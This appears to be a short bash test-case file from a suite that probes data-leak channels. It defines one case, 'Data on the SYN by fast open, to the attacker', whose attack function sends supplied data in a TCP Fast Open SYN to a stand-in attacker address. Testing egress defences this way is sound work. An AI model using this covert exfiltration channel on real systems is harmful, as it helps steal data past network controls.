# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='Data on the SYN by fast open, to the attacker'
origin='RESEARCH §2.16; RFC 7413'
reason='not_resolved'
forms='output forward run'
attack() { tool send.py fastopen 198.18.3.66 80 "$1"; }
